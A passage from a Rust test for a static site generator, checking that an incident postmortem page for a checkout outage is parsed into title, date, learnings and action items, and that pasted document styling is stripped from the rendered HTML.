        row(&["Add config validation to CI", "team-checkout", "Done"]),
    );
    let site = Site::with(&[("content/checkout.md", &body)]);
    site.build_ok();
    let i = site.incident("checkout");
    assert_eq!(i["title"], "Checkout outage", "{i}");
    assert_eq!(i["date"], "2023-04-02", "{i}");
    let texts = |key: &str| texts_of(&i, key);
    assert_eq!(
        texts("learnings"),
        [
            "Config changes need review like code: Even a one-line change",
            "Push config to a canary first"
        ]
    );
    // The action items' table is kept as written, and read as a Markdown table is.
    assert_eq!(texts("action_items"), ["Add config validation to CI"]);
    assert_eq!(i["action_items"][0]["owner"], "team-checkout", "{i}");
    assert_eq!(i["action_items"][0]["status"], "done", "{i}");
    // The theme sets fonts and colours: none of the document's own is published, not even in
    // the table, which is kept as written.
    let page = site.page("incidents/checkout/index.html");
    assert!(
        page.contains("<h2 id=\"lessons-learned\">Lessons learned <a class=\"anchor\""),
        "{page}"
    );
    for style in [
        "font-family",
        "#000000",
        "line-height:1.38",
        "docs-internal-guid",
        "border:none",
    ] {
        assert!(!page.contains(style), "{style}: {page}");
    }
}
